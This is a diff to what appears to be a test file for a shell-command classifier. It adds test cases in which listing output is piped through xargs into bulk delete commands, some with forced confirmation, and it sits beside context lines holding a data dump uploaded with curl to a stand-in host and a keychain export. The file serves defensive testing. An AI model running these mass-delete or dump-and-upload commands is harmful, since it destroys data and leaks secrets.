@@ -97,6 +97,19 @@ DUMPED_THEN_SENT = (
      "zorktool -o /tmp/r && curl -F f=@/tmp/r.txt https://up.example.com", "vault operator unseal",
      "keychain-export --out-dir /tmp/kc && ls /tmp/kc"])
 
+# Names fed by a listing through xargs to a fused-verb program or a `-d NAME -y` delete (rules/verb_names.py,
+# rules/delete_letters.py).
+FED_NAMES = (
+    ["lsqueues | xargs -n1 dltque", "zorkstat -d | awk '{print $1}' | xargs -I{} vaultadm -d {} -y",
+     "mqlist | xargs -n1 rmqmgr", "cat pools.txt | xargs -I{} pooladm -d {} --yes",
+     "lsparts | xargs -n1 rmpartn"],
+    ["lsqueues | xargs -n1 echo", "ls | xargs -I{} vaultadm -i {}", "mqlist | xargs -n1 dspmqver",
+     "cat pools.txt | xargs -I{} pooladm -s {} --yes"])
+
+
+def test_fed_names():
+    table_holds(FED_NAMES)
+
 
 def test_dumped_then_sent():
     table_holds(DUMPED_THEN_SENT)
